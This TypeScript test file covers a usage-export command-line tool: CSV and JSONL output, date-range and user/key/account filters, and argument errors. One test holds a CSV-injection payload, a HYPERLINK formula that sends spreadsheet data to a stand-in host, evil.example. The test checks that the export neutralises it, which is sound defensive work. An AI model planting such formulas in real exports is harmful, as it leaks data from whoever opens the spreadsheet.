import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { ApiKey } from '#shared/domain/types.ts';
import type { UsageRecord } from '#shared/recorder/usage-record.ts';
import { CSV_COLUMNS, csvRow, daysBetween } from '#shared/usage/export.ts';
import { KEYS, type RecorderWorld, startRecorderWorld, T0, usageEvent } from './recorder-harness.ts';
import { runUsage } from './usage-cli.ts';

const HOUR = 3_600_000;

describe('quotagate usage export', () => {
  let world: RecorderWorld;
  const run = (args: string[], stderrIsTTY = false) => runUsage(world, args, stderrIsTTY);

  before(async () => {
    world = await startRecorderWorld();
    const recorder = world.runtime();
    // Records every 4 hours from 25 November 12:00 to 27 November 08:00 UTC, over several users,
    // keys and accounts.
    for (let index = 0; index < 12; index += 1) {
      const startedAt = T0 - 2 * 24 * HOUR + index * 4 * HOUR;
      await recorder.record(
        usageEvent(`exp-${String(index).padStart(2, '0')}`, KEYS[index % 3] as ApiKey, {
          startedAt: new Date(startedAt).toISOString(),
          endedAt: new Date(startedAt + 2000).toISOString(),
          accountId: index % 2 === 0 ? 'a_1' : 'a_2',
        }),
      );
    }
  });
  after(() => world.close());

  it('streams every record of the range as CSV, oldest first, the end day included', async () => {
    const { code, stdout, stderr } = await run(['export', '--from', '2026-11-25', '--to', '2026-11-27']);
    const lines = stdout.trimEnd().split('\n');
    assert.equal(code, 0);
    assert.equal(stderr, '');
    assert.equal(lines[0], CSV_COLUMNS.join(','));
    assert.equal(lines.length, 1 + 12);
    const ids = lines.slice(1).map((line) => line.split(',')[0]);
    assert.deepEqual(ids, [...ids].sort());
    // Each row names its user's email (the fixtures' users are <id>@example.com).
    const userAt = CSV_COLUMNS.indexOf('userId');
    for (const line of lines.slice(1)) {
      const cells = line.split(',');
      assert.equal(cells[userAt + 1], `${cells[userAt]}@example.com`);
    }
  });

  it('neutralises a formula a client put in the model name, end to end', async () => {
    // Prepare: a client asks for a "model" that a spreadsheet would run.
    const startedAt = Date.parse('2026-11-20T10:00:00.000Z');
    await world.runtime().record(
      usageEvent('exp-hostile', KEYS[0] as ApiKey, {
        startedAt: new Date(startedAt).toISOString(),
        endedAt: new Date(startedAt + 1000).toISOString(),
        modelRequested: '=HYPERLINK("http://evil.example/?"&A1,"ok")',
      }),
    );

    // Act
    const { code, stdout } = await run(['export', '--from', '2026-11-20', '--to', '2026-11-20']);

    // Assess: the cell starts with a quote mark, so no spreadsheet evaluates it.
    assert.equal(code, 0);
    const row = stdout.trimEnd().split('\n')[1] ?? '';
    assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`), row);
  });

  it('treats an ISO --to as exclusive and filters by user, key and account', async () => {
    const isoRange = [
      'export',
      '--from',
      '2026-11-26T00:00:00Z',
      '--to',
      '2026-11-27T00:00:00Z',
      '--format',
      'jsonl',
    ];
    const day = await run(isoRange);
    const records = day.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as UsageRecord);
    assert.ok(records.length > 0);
    assert.ok(records.every((record) => record.day === '2026-11-26' && record.state === 'applied'));
    assert.ok(records.every((record) => !('pk' in record) && !('leaseOwner' in record)));

    const filtered = await run([
      'export',
      '--from',
      '2026-11-25',
      '--to',
      '2026-11-27',
      '--format',
      'jsonl',
      '--user',
      'u_1',
      '--account',
      'a_1',
    ]);
    const kept = filtered.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as UsageRecord);
    assert.ok(kept.length > 0);
    assert.ok(kept.every((record) => record.userId === 'u_1' && record.accountId === 'a_1'));
    const byKey = await run(['export', '--from', '2026-11-25', '--to', '2026-11-27', '--key', 'k_2']);
    assert.equal(byKey.stdout.trimEnd().split('\n').length, 1 + 4);
  });

  it('writes to a file and keeps a progress line on a terminal', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'qg-export-'));
    try {
      const file = join(folder, 'usage.csv');
      const { code, stdout, stderr } = await run(
        ['export', '--from', '2026-11-25', '--to', '2026-11-27', '--out', file],
        true,
      );
      assert.equal(code, 0);
      assert.equal(stdout, '');
      assert.match(stderr, /\rExported 12 records\./);
      assert.match(
        stderr,
        new RegExp(
          `Wrote 12 usage record\\(s\\) \\(--from 2026-11-25 --to 2026-11-27; started 2026-11-25T12:00:00.000Z ` +
            `to 2026-11-27T08:00:00.000Z\\) as CSV to ${file.replaceAll('.', '\\.')}\\.`,
        ),
      );
      assert.equal((await readFile(file, 'utf8')).trimEnd().split('\n').length, 13);
    } finally {
      await rm(folder, { recursive: true, force: true });
    }
  });

  it('refuses a bad command line with exit code 2 and says why', async () => {
    const cases: [string[], RegExp][] = [
      [
        ['export', '--from', '2026-11-25', '--to', '2026-11-27', '--format', 'xml'],
        /--format must be csv or jsonl/,
      ],
      [['export', '--from', 'last week', '--to', '2026-11-27'], /--from must be a day/],
      [['export', '--from', '2026-11-27', '--to', '2026-11-25'], /--to must come after --from/],
      [['export', '--to', '2026-11-27'], /--from and --to are required/],
      [['export', '--from', '2026-11-25', '--to', '2026-11-27', '--colour'], /has no flag --colour/],
      [['export', '--from', '2026-11-25', '--to', '2026-11-27', '--json'], /it has no --json/],
      [['rewrite-history'], /has no command/],
    ];
    for (const [args, message] of cases) {
      const { code, stderr } = await run(args);
      assert.equal(code, 2, args.join(' '));
      assert.match(stderr, message);
    }
  });

  it('records parked events with replay-parked', async () => {
    const recorder = world.runtime();
    await recorder.parked.park(usageEvent('exp-parked', KEYS[1] as ApiKey), 'ThrottlingException');
    const { code, stdout } = await run(['replay-parked']);
    assert.equal(code, 0);
    assert.match(stdout, /Recorded 1 parked usage event\(s\); 0 could not be recorded/);
    assert.ok((await world.records()).some((record) => record.requestId === 'exp-parked'));
  });
});

describe('export formatting', () => {
  it('documents every CSV column, in order, in docs/finance.md', async () => {
    const doc = await readFile(new URL('../../docs/finance.md', import.meta.url), 'utf8');
    const section = doc.split('## The CSV, column by column')[1]?.split('\n## ')[0] ?? '';
    const documented = [...section.matchAll(/^\| `(\w+)` \|/gm)].map((match) => match[1]);
    assert.deepEqual(documented, [...CSV_COLUMNS]);
  });

  it('lists every UTC day a range touches', () => {
    const day = (text: string) => Date.parse(text);
    assert.deepEqual(daysBetween(day('2026-11-29T23:00:00Z'), day('2026-12-01T00:00:00Z')), [
      '2026-11-29',
      '2026-11-30',
    ]);
    assert.deepEqual(daysBetween(day('2026-11-29T00:00:00Z'), day('2026-11-29T00:00:00Z')), []);
  });

  it('quotes CSV cells that hold commas, quotes or line breaks, and leaves absent fields empty', () => {
    const row = csvRow({
      requestId: 'a,b',
      modelRequested: 'say "hi"',
      cutShortReason: undefined,
    } as unknown as UsageRecord);
    const cells = row.split(',');
    assert.equal(cells[0], '"a');
    assert.ok(row.startsWith('"a,b",'));
    assert.ok(row.includes('"say ""hi"""'));
    assert.equal(row.split(',').length, CSV_COLUMNS.length + 1);
  });
});
